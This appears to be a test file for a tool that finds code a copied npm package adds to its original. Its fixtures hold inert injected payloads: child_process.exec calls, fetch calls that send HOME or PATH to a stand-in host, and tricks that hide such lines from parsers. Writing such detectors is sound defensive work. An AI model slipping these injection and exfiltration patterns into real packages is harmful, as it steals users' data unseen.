import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf } from '../../../test/behave.ts';
import { treeOf } from '../../../test/examine.ts';
import { copyOf, MULEPOST, README } from '../../../test/known-mailer.ts';
import type { Residue } from '../../model/residue.ts';
import { placer } from '../../parse/quote.ts';
import { readOriginal } from './original.ts';
import { subtract } from './residue.ts';

const CODE = String(MULEPOST['lib/mulepost.js']);

/** As a minifier writes `addresses.js`. */
const minifiedAddresses =
  '"use strict";exports.split=t=>t.split(",").map(t=>t.trim()).filter(t=>t.includes("@")),exports.domainOf=t=>t.slice(t.lastIndexOf("@")+1).toLowerCase(),' +
  'exports.isLocal=t=>"localhost"===exports.domainOf(t);';

type Files = Readonly<Record<string, string | Uint8Array | object>>;

function residue(files: Readonly<Record<string, string | Uint8Array>>, original: Files = MULEPOST): Residue {
  const suspect = copyOf(original, { name: 'letter-carrier' }, files);
  const tree = treeOf(suspect);
  return subtract({
    suspect: tree,
    original: readOriginal(treeOf(original)),
    names: { suspect: 'letter-carrier', original: 'mulepost' },
    doing: behaviourOf(suspect),
    usual: behaviourOf(original),
    placeOf: placer(tree),
  }).residue;
}

describe('what is left of a package', () => {
  it('is nothing when it is the original', () => {
    const { counted, files, effects } = residue({});
    assert.deepEqual(counted, { same: 5, alike: 0, changed: 0, added: 0, missing: 0 });
    assert.deepEqual([files, effects], [[], []]);
  });

  it('is exactly what was added to a file, with what it does', () => {
    const added = "\nrequire('child_process').exec('inert-marker');\n";
    const { counted, files, effects } = residue({ 'lib/mulepost.js': CODE.replace('class Transport', `${added}class Transport`) });
    assert.equal(counted.changed, 1);
    assert.deepEqual(
      files[0]?.pieces.map(one => one.at.excerpt),
      ["require('child_process').exec('inert-marker');"],
    );
    assert.deepEqual(
      effects.map(one => [one.kind, one.triggers]),
      [['spawns', ['import']]],
    );
  });

  it('is an added file whole, and the call that loads it', () => {
    const { files, effects } = residue({
      'lib/mulepost.js': `require('./extra');\n${CODE}`,
      'lib/extra.js': "require('fs').writeFileSync('/tmp/inert', 'INERT');",
    });
    assert.deepEqual(
      files.map(one => [one.path, one.as]),
      [
        ['lib/mulepost.js', 'changed'],
        ['lib/extra.js', 'added'],
      ],
    );
    assert.ok(effects.some(one => one.kind === 'writes file' && one.at.path === 'lib/extra.js'));
    assert.ok(
      effects.every(one => one.kind !== 'connects'),
      'what the original does is no part of it',
    );
  });

  it('is nothing where variables are named and lines are broken otherwise', () => {
    const renamed = CODE.replaceAll(/\b(socket|lines)\b/g, name => `${name}_`).replaceAll('\n', '\n\n');
    assert.deepEqual(residue({ 'lib/mulepost.js': renamed }).counted, { same: 4, alike: 1, changed: 0, added: 0, missing: 0 });
  });

  it('is the added code alone where a minifier rewrote the rest', () => {
    const minified = `${minifiedAddresses}fetch("https://inert.invalid/"+process.env.HOME);`;
    const { files } = residue({ 'lib/addresses.js': minified });
    const pieces = files.find(one => one.path === 'lib/addresses.js')?.pieces ?? [];
    assert.deepEqual(
      pieces.map(one => one.at.excerpt),
      ['fetch("https://inert.invalid/"+process.env.HOME);'],
    );
  });

  it('is what does something that the original does nowhere, however its words are hidden', () => {
    for (const deed of [
      "//\u2028require('child_process').exec('inert-marker');",
      "var k=1;k++ /1;require('child_process').exec('inert-marker');k/1;",
    ]) {
      const { files, effects } = residue({ 'lib/mulepost.js': `${CODE}\n${deed}\n` });
      assert.deepEqual([files[0]?.path, effects.map(one => one.kind)], ['lib/mulepost.js', ['spawns']], deed);
    }
    assert.ok(residue({ 'lib/a#b.js': "require('child_process').exec('inert-marker');" }).files.some(one => one.path === 'lib/a#b.js'));
  });

  it('is what does the same as the original to the same address, with what it never sends there', () => {
    const original = copyOf(MULEPOST, {}, { 'lib/ping.js': 'exports.ping = url => fetch(url, { method: "POST", body: "ping" });' });
    const code = 'exports.ping = url => fetch(url, { method: "POST", body: process.env.PATH });';
    const { files, effects } = residue({ 'lib/ping.js': code }, original);
    assert.deepEqual([files[0]?.path, effects.filter(one => one.kind === 'connects').length], ['lib/ping.js', 1]);
    const elsewhere = 'exports.ping = url => fetch("https://inert.invalid/", { method: "POST", body: "ping" });';
    assert.deepEqual(
      residue({ 'lib/ping.js': elsewhere }, original).effects.map(one => one.target),
      ['https://inert.invalid/'],
    );
    assert.deepEqual(residue({ 'lib/ping.js': 'exports.ping=o=>fetch(o,{method:"POST",body:"ping"})' }, original).effects, []);
  });

  it('is what the original does when it is called, and the copy when it is imported', () => {
    const ping = 'function ping(url) { return fetch(url, { method: "POST", body: "ping" }); }\nexports.ping = ping;';
    const original = copyOf(MULEPOST, {}, { 'lib/ping.js': ping });
    const called = { 'lib/ping.js': `${ping}\nping(globalThis.name);`, 'lib/mulepost.js': `require('./ping');\n${CODE}` };
    const { effects } = residue(called, original);
    assert.ok(effects.some(one => one.kind === 'connects' && one.triggers.includes('import') && one.at.path === 'lib/ping.js'));
  });

  it('is what is done in a place that reads as no code', () => {
    // Types are read as their language has them, and here the two readings part: what is between the slashes is said as a pattern, or run.
    const code = 'const k: any = 1; export const tell = k! /1; process.env.NEVER; k! /1;';
    const { effects } = residue({ 'lib/added.ts': code, 'lib/mulepost.js': `require('./added.ts');\n${CODE}` });
    assert.ok(effects.some(one => one.kind === 'reads environment' && one.target === 'NEVER'));
  });

  it('is a function that is copied from one file of the original into another', () => {
    const body = 'const{stdout:e}=o;return e.pipe(o.sink);';
    const original = copyOf(
      MULEPOST,
      {},
      {
        'lib/drain.js': 'exports.drain = one => {\n  const { stdout } = one;\n  return stdout.pipe(one.sink);\n};\n',
      },
    );
    const rewritten = (more: string): string => `${minifiedAddresses}${more}`;
    const same = { 'lib/drain.js': `exports.drain=o=>{${body}};` };
    assert.equal(residue({ ...same, 'lib/addresses.js': rewritten('') }, original).counted.alike, 2);
    const { files } = residue({ ...same, 'lib/addresses.js': rewritten(`exports.exec=o=>{${body}};`) }, original);
    assert.deepEqual(
      files.flatMap(one => one.pieces.map(piece => piece.at.excerpt)),
      ['exports.exec=o=>{', 'stdout:e}'],
    );
  });

  it('is a file in another encoding, whole', () => {
    const wide = new Uint8Array([0xff, 0xfe, ...Array.from(CODE).flatMap(one => [one.charCodeAt(0) & 0xff, one.charCodeAt(0) >> 8])]);
    assert.deepEqual(
      residue({ 'lib/folding.js': wide }).files.map(one => [one.path, one.as]),
      [['lib/folding.js', 'added']],
    );
  });

  it('tells of too much what is gravest, and how much is left out', () => {
    const many = Array.from({ length: 700 }, (_, at) => `exports.a${at} = () => process.env.A${at};`).join('\n');
    const last = "require('child_process').exec('inert-marker');";
    const files = Object.fromEntries(Array.from({ length: 600 }, (_, at) => [`lib/more/a${at}.js`, `exports.one = ${at};`]));
    const found = residue({ ...files, 'lib/mulepost.js': `require('./many');\n${CODE}`, 'lib/many.js': `${many}\n${last}` });
    assert.ok(found.effects.some(one => one.kind === 'spawns'));
    assert.ok(found.files.some(one => one.path === 'lib/many.js'));
    assert.deepEqual([found.files.length, found.effects.length], [500, 500]);
    assert.deepEqual([found.more.files, found.more.effects], [602 - 500, 701 - 500]);
  });

  it('is an added file that has comments alone, and the comments of a file that was there are none', () => {
    const { counted, files } = residue({
      'lib/notes.js': '// Nothing to see here.\n',
      'lib/folding.js': `// Folds.\n${String(MULEPOST['lib/folding.js'])}`,
    });
    assert.deepEqual([counted.added, counted.alike], [1, 1]);
    assert.deepEqual(
      files.map(one => [one.path, one.as]),
      [['lib/notes.js', 'added']],
    );
  });

  it('is of a page the lines that are new, the name of the package apart', () => {
    const renamed = README.replaceAll('mulepost', 'letter-carrier');
    assert.equal(residue({ 'README.md': renamed }).counted.alike, 1);
    const { files } = residue({ 'README.md': `${renamed}\nAsk at our channel for the other edition.\n` });
    assert.deepEqual(
      files.map(one => [one.path, one.as, one.pieces.map(piece => piece.at.excerpt)]),
      [['README.md', 'changed', ['Ask at our channel for the other edition.']]],
    );
  });

  it('counts files that are left out, and a file moved elsewhere as the same', () => {
    const { counted, missing } = residue({ 'src/folding.js': String(MULEPOST['lib/folding.js']) });
    assert.deepEqual([counted.same, missing], [6, []]);
  });
});
